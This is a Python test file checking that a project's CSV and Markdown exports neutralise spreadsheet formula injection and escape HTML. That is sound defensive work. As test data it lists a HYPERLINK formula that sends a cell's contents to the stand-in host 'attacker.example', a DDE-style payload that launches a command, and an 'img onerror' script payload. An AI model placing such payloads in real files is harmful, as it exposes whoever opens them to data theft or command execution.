"""Exports safe to open (issue 39): a question or an answer that a spreadsheet would run as a formula
(`=HYPERLINK(...)`, `+`, `-`, `@`, a leading TAB or CR) is written to flips.csv, comparison.csv and the
tables' CSVs with a leading `'` (OWASP), numbers stay numbers; the Markdown exports show HTML from a
question or an answer as text."""

from __future__ import annotations

import csv
import io

from giant.compare.pairs import compare_runs
from giant.compare.render import flips_csv, to_csv, to_markdown
from giant.tracking.safe_cells import csv_cell
from giant.tracking.tables.formats import cells_csv
from giant.tracking.tables.formats import to_csv as table_csv
from giant.tracking.tables.formats import to_markdown as table_markdown
from giant.tracking.tables.rows import Cell, Row, Table
from tests.compare.test_pairs import _run

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?d="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]
IMG = '<img src=x onerror="alert(1)">'


def test_a_spreadsheet_formula_becomes_text_and_a_number_stays_a_number() -> None:
    for text in HOSTILE:
        assert csv_cell(text) == "'" + text.replace("\r", "\n")
    for number in ("-1.5", "+3", "-0", "1e-3", "-12"):
        assert csv_cell(number) == number
    for plain in ("grade 2", "", "a=b", 3, None, -4.5):
        assert csv_cell(plain) == plain


def _comparison_with(question: str, answer: str):  # type: ignore[no-untyped-def]
    a = _run("a", {"1": [1], "2": [None]})
    b = _run("b", {"1": [None], "2": [1]})
    b.items["t/2"] = b.items["t/2"].model_copy(update={"answer": answer})
    comparison = compare_runs([a, b], replicates=20)
    for pair in comparison.pairs:
        pair.flips = [flip.model_copy(update={"question": question}) for flip in pair.flips]
    return comparison


def test_flips_csv_has_no_cell_a_spreadsheet_runs() -> None:
    for text in HOSTILE:
        rows = list(csv.reader(io.StringIO(flips_csv(_comparison_with(text, text)), newline="")))
        assert len(rows) == 3 and all(len(row) == len(rows[0]) for row in rows)  # a CR ends no row
        cells = [cell for row in rows[1:] for cell in row]
        assert f"'{text}".replace("\r", "\n") in cells
        for cell in cells:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or csv_cell(cell) == cell, cell


def test_comparison_csv_and_markdown_keep_run_names_and_questions_inert() -> None:
    comparison = _comparison_with(IMG, f"{IMG} grade 1")
    comparison.runs[0].name = "=cmd()"
    rows = list(csv.reader(io.StringIO(to_csv(comparison))))
    assert rows[1][:4] == ["t", "accuracy", "A", "B"]  # comparison.csv names runs by letter
    md = to_markdown(comparison)
    assert IMG not in md
    assert '&lt;img src=x onerror="alert(1)">' in md
    assert "'=cmd()" not in md and "=cmd()" in md  # Markdown is not a spreadsheet: the name as it is


def test_the_tables_csv_and_markdown_are_safe_too() -> None:
    cell = Cell(mean=50.0, std=1.0, n_items=2, complete=True, run_id="r1")
    row = Row.model_construct(method='=HYPERLINK("x")', model=IMG, cells={"t": cell})
    table = Table(tasks=["t"], rows=[row])
    for text in (table_csv(table), cells_csv(table)):
        (row,) = list(csv.reader(io.StringIO(text)))[1:]
        assert row[0] == '\'=HYPERLINK("x")'
    md = table_markdown(table)
    assert IMG not in md and "&lt;img" in md
